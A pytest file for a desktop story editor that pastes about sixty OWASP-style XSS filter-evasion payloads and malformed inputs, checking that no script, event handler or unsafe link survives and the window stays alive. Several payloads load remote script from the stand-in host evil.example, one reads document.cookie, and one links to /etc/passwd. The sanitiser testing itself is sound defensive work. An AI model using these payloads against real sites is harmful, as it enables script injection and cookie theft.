"""What nobody means well is pasted: scripts, files of other computers, texts that are built to hold a program up."""

from __future__ import annotations

from collections.abc import Callable

import lxml.html
import pytest
from PySide6.QtCore import QMimeData
from PySide6.QtGui import QTextCursor
from PySide6.QtTest import QTest

from deskeditor import markup
from deskeditor.core.document import plain, runs_in
from deskeditor.ui.editor.story import StoryEditor
from deskeditor.ui.editor.walk import to_document

OpenStory = Callable[..., StoryEditor]


def paste(editor: StoryEditor, html: str = "", text: str = "") -> str:
    """Paste into an empty story; the Markdown that it has now."""
    mime = QMimeData()
    if html:
        mime.setHtml(html)
    if text:
        mime.setText(text)
    editor.moveCursor(QTextCursor.MoveOperation.End)
    editor.insertFromMimeData(mime)
    return markup.write(markup.normal(to_document(editor.document())))


VECTORS = [
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<a onmouseover=\"alert(document.cookie)\">seen</a>",
    '<IMG """><SCRIPT>alert("x")</SCRIPT>"\\>',
    "<a href=\"javascript:alert(String.fromCharCode(88,83,83))\">seen</a>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(1)\"></img>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>seen</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097script:alert(1)'>seen</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)'>seen</a>",
    "<a href='jav\tascript:alert(1)'>seen</a>",
    "<a href='jav&#x09;ascript:alert(1)'>seen</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>seen</a>",
    "<a href=' &#14;  javascript:alert(1)'>seen</a>",
    "<a href='java\0script:alert(1)'>seen</a>",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">",
    "<BODY BACKGROUND=\"javascript:alert(1)\">seen</BODY>",
    "<IMG DYNSRC=\"javascript:alert(1)\"><IMG LOWSRC=\"javascript:alert(1)\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>seen</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert(1);\">",
    "<BR SIZE=\"&{alert('XSS')}\">seen",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<https://evil.example/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"https://evil.example/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert(1)\");}</STYLE><A CLASS=XSS>seen</A>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">seen",
    "¼script¾alert(¢XSS¢)¼/script¾",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert(1)\"><TR><TD>seen</TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">seen</DIV>",
    "<DIV STYLE=\"width: expression(alert(1));\">seen</DIV>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zy8+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"https://evil.example/xss.htc\"><xss:xss>seen</xss:xss>",
    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert(1);",
    "<SCRIPT a=\">\" SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">seen</a>",
    "<a href=\"//evil.example\" onclick=alert(1)>seen</a>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>seen</button></form>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<img src=photo:\"onerror=alert(1)>",
    "<p>[seen](javascript:alert(1)) ![x](file:///etc/passwd) &lt;script&gt;seen&lt;/script&gt;</p>",
]  # fmt: skip
"""In the manner of the OWASP cheat sheet on the evasion of filters."""
LIVE = {"script", "svg", "iframe", "math", "style", "form", "object", "embed", "img", "link", "meta", "input", "button"}


@pytest.mark.parametrize("vector", VECTORS)
def test_no_script_survives_a_paste_and_no_word_is_lost(open_story: OpenStory, vector: str) -> None:
    body = paste(open_story(body=""), f"<p>Before.</p>{vector}<p>After.</p>")
    words = "".join(plain(runs) for block in markup.read(body).blocks for runs in runs_in(block))
    assert "Before." in words
    if not vector.endswith(("< B >", "('XSS')\"")):  # unclosed: a browser, too, takes what follows for a part of it
        assert "After." in words
    assert ("seen" in vector) == ("seen" in words)
    page = lxml.html.fromstring(f"<main>{markup.render(body, lambda _figure, caption: caption)}</main>")
    for element in page.iter():
        assert element.tag not in LIVE
        for name, value in element.attrib.items():
            assert not str(name).startswith("on")
            assert name != "href" or str(value).startswith(("https:", "http:", "#"))


def many_lists() -> str:
    return "<ul><li>deep" * 5_000


BAD: dict[str, tuple[Callable[[], str], Callable[[], str], str]] = {
    "NUL": (lambda: "<p>a\0b</p>", str, "ab"),
    "lone surrogates": (lambda: "<p>a\ud800b\udfff</p>", str, "b"),
    "no break": (str, lambda: "x" * 200_000, "x" * 200_000),
    "lists": (many_lists, str, "deep"),
    "brackets": (str, lambda: "[" * 10_000, "[" * 10_000),
    "columns": (lambda: f"<table><tr>{'<td>w' * 1_000}<tr>{'<td>w' * 1_000}</table>", str, "w"),
    "a photo that has gone": (
        lambda: "<figure><img src=photo:gone><figcaption>of it</figcaption></figure>",
        str,
        "of it",
    ),
}


@pytest.mark.parametrize("name", BAD)
def test_bad_input_leaves_the_window_alive(open_story: OpenStory, name: str) -> None:
    html, text, kept = BAD[name]
    editor = open_story(body="")
    assert kept in markup.plain_text(paste(editor, html(), text()))
    editor.moveCursor(QTextCursor.MoveOperation.End)
    QTest.keyClicks(editor, "!")
    assert "!" in markup.plain_text(editor.take_changes()["body"])
